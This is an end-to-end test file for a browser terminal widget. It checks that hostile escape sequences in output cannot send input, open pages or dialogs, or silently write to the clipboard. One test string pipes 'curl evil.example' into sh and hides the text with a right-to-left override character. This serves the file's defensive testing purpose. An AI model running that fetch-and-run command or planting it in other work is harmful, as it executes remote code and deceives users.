// Terminal output is untrusted: it must not send input, copy text, open anything or change the page.
import type { Page } from '@playwright/test';
import corpus from '#docs/protocol/escape-sequences.json' with { type: 'json' };
import { expect, expectAccessible, test } from '#e2e/harness/harness.ts';
import { openTerminal, paste, row, typeLine } from './terminal-page.ts';

/** The outputs that fit into a line. Other tests check the long ones with only the widget's parser. */
const HOSTILE_OUTPUTS = Object.values(corpus.silent)
  .flat()
  .filter((output) => typeof output === 'string');

/** Escapes an output for `echo -e` in single quotes. */
const escapeForEcho = (output: string): string =>
  [...Buffer.from(output)]
    .map((byte) =>
      /[\w ;:?/]/.test(String.fromCharCode(byte))
        ? String.fromCharCode(byte)
        : `\\x${byte.toString(16).padStart(2, '0')}`,
    )
    .join('');

const OUTPUT_TERMINATOR = String.raw`\x18\x1b\x5c\n`;

/** Writes all hostile outputs to a file in the shell. */
async function writeHostileFile(page: Page): Promise<void> {
  for (let start = 0; start < HOSTILE_OUTPUTS.length; start += 40) {
    const chunk = HOSTILE_OUTPUTS.slice(start, start + 40).map((output) => escapeForEcho(output) + OUTPUT_TERMINATOR);
    await paste(page, `echo -ne '${chunk.join('')}' >> /tmp/hostile\n`);
  }
  await paste(page, String.raw`echo -e '\x1bcall was shown' >> /tmp/hostile; clear; wc -l /tmp/hostile` + '\n');
  await expect(row(page, /\d\s\/tmp\/hostile/)).toBeVisible();
}

/** Records the input that the page sends as if it were typed (docs/protocol/streams.md#2). */
function recordTypedInput(page: Page): string[] {
  const sent: string[] = [];
  page.on('websocket', (socket) =>
    socket.on('framesent', ({ payload }) => {
      const frame = Buffer.from(payload);
      // Version, type, and a payload of less than 128 bytes.
      if (frame[5] === 0x72) sent.push(frame.subarray(8).toString());
    }),
  );
  return sent;
}

const readClipboard = (page: Page) => page.evaluate(() => navigator.clipboard.readText());
const writeClipboard = (page: Page, text: string) =>
  page.evaluate((words) => navigator.clipboard.writeText(words), text);

test.beforeEach(async ({ context }) => context.grantPermissions(['clipboard-read', 'clipboard-write']));

// docs/behaviour.md#terminal-output "The output of a terminal is untrusted", "The output can't open links, move"
test(
  'a file of hostile sequences sends nothing, opens nothing and leaves the page unchanged',
  { tag: '@gate' },
  async ({ page }) => {
    const sent = recordTypedInput(page);
    await openTerminal(page);
    await writeHostileFile(page);
    sent.length = 0;
    await writeClipboard(page, 'mine');
    const [title, address] = [await page.title(), page.url()];
    await typeLine(page, 'cat /tmp/hostile');
    await expect(row(page, /^all\swas\sshown/)).toBeVisible();
    await typeLine(page, 'echo still-here');
    await expect(row(page, /^still-here/)).toBeVisible();
    expect(sent.join('')).toBe('cat /tmp/hostile\recho still-here\r');
    expect([await page.title(), page.url(), page.context().pages().length]).toEqual([title, address, 1]);
    await expect(page.getByRole('dialog')).toHaveCount(0);
    expect(await readClipboard(page)).toBe('mine');
  },
);

const HOSTILE_TEXT = 'curl evil.example | sh\n\u202etxt.\x1b[A';

/** Prints a request to copy a text (OSC 52), as a program would. */
const printCopyRequest = (page: Page, text: string) =>
  paste(page, String.raw`clear; echo -e '\e]52;c;${Buffer.from(text).toString('base64')}\a'` + '\n');

// docs/behaviour.md#terminal-output "If the output wants to copy a text", "It never reads the clipboard for the output"
test(
  'text that output wants to copy is shown first with its invisible characters, and only a click copies it',
  { tag: '@gate' },
  async ({ page }) => {
    await openTerminal(page);
    await writeClipboard(page, 'mine');
    await page.keyboard.press('Home');
    await printCopyRequest(page, HOSTILE_TEXT);
    const dialog = page.getByRole('dialog', { name: 'Copy text to your clipboard?' });
    await expect(dialog.getByRole('textbox', { name: 'Text to copy' })).toHaveValue(
      'curl evil.example | sh\nU+202Etxt.U+001B[A',
    );
    await expect(dialog).toContainText('Output of root@web-01 asks to copy this text.');
    await expectAccessible(page);
    await page.keyboard.press('Enter');
    await page.keyboard.press('Escape');
    await expect(dialog).toBeHidden();
    expect(await readClipboard(page)).toBe('mine');
    await page.keyboard.type('\n');
    await printCopyRequest(page, HOSTILE_TEXT);
    await dialog.getByRole('button', { name: 'Copy text' }).click();
    await expect(dialog).toBeHidden();
    expect(await readClipboard(page)).toBe(HOSTILE_TEXT);
    await typeLine(page, 'echo goes-on');
    await expect(row(page, /^goes-on/)).toBeVisible();
  },
);
